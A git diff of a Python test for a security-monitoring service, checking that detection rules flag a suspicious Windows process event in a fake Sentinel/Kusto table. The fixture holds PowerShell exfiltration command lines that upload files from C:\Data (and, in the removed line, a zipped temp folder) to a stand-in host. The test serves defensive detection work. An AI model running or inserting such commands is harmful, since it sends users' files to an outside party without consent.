@@ -322,11 +322,13 @@ def test_no_secret_is_shown(fake):
 
 @pytest.mark.parametrize("pushdown", ["off", "candidates", "score"])
 def test_the_service_selects_what_the_rules_look_for(fake, pushdown):
-    uploads = r"powershell -c Compress-Archive $env:TEMP\x C:\a.zip; Invoke-RestMethod -Method Post -InFile C:\a.zip https://x"
+    uploads = (
+        r"powershell -c gci C:\Data -Recurse | % { (New-Object Net.WebClient).UploadFile('https://x/', $_.FullName) }"
+    )
     shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
     fake.kusto.add("SecurityEvent", security(NOON, 1, CommandLine=uploads, NewProcessName=shell))
     fake.kusto.add("SecurityEvent", security(NOON, 2, CommandLine="notepad", NewProcessName=r"C:\notepad.exe"))
-    rules = load([pack("exfil"), pack("seed")]).rules
+    rules = load([pack("seed")]).rules
     siem = sentinel(fake, tables="SecurityEvent", pushdown=pushdown)
     found = set(numbers(fetched(siem, NOON, NOON + 1, rules=rules)))
     assert "1" in found
